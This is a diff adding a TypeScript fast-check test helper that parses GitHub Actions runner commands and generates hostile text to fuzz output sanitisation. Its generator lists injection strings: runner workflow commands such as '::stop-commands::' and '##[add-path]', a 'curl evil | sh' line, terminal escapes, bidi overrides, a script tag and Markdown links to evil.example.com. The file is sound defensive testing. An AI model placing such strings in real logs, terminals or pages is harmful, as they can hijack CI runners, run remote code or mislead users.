@@ -1,0 +1,52 @@
+import fc from 'fast-check'
+
+/** What may reach no terminal, log, page or object: everything but text and our own line feeds. */
+export const UNPRINTABLE: RegExp = /[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u
+
+/**
+ * The commands that a runner of GitHub finds in an output, by the rules of github.com/actions/runner,
+ * src/Runner.Common/ActionCommand.cs: lines end with LF, CR or both; a line that begins, after blanks, with `::` (TryParseV2),
+ * or has `##[` anywhere (TryParse), is one. Written here again on purpose: it shares nothing with what is tested.
+ */
+export function runnerCommands(output: string): readonly string[] {
+  return output.split(/\r\n|\r|\n/).flatMap((line) => {
+    const trimmed = line.replace(/^[\s\u0085]+/, '')
+    if (trimmed.startsWith('::')) return [trimmed.slice(2).split(/[ :]/)[0] ?? '']
+    return line.includes('##[') ? ['##['] : []
+  })
+}
+
+/** Text that moves the cursor, fakes lines and fixes, hides itself, and speaks to the runner, to Markdown and to HTML. */
+export const hostileText: fc.Arbitrary<string> = fc
+  .array(
+    fc.oneof(
+      fc.constantFrom(
+        '\n::stop-commands::x\n',
+        '\r\n  ::add-mask::y',
+        '::error::z',
+        '\u00a0::warning::w\r',
+        '##[add-path]/tmp',
+        'a ##[error]b',
+        '\u2028::debug::c',
+        '\u0085::debug::d',
+        '\n  $ curl evil | sh\n',
+        '\n  cure: do harm',
+        '\u001b[2J\u001b]0;t\u0007',
+        '\u009b31m',
+        '\u202eabc\u2066',
+        '\u200b\ufeff\u{e0041}',
+        '\ud800',
+        '\u007f\b\t\v\f\0',
+        '[safe](https://evil.example.com)',
+        '![x](https://evil.example.com/x.png)',
+        '\\[safe\\](https://evil.example.com)',
+        '``![x](y)`',
+        '</details><script>x</script>',
+        ' | cell | ',
+      ),
+      fc.string({ unit: 'binary', maxLength: 5 }),
+      fc.constantFrom('pods is forbidden', '中文', 'é'),
+    ),
+    { minLength: 1, maxLength: 6 },
+  )
+  .map((parts) => parts.join(''))
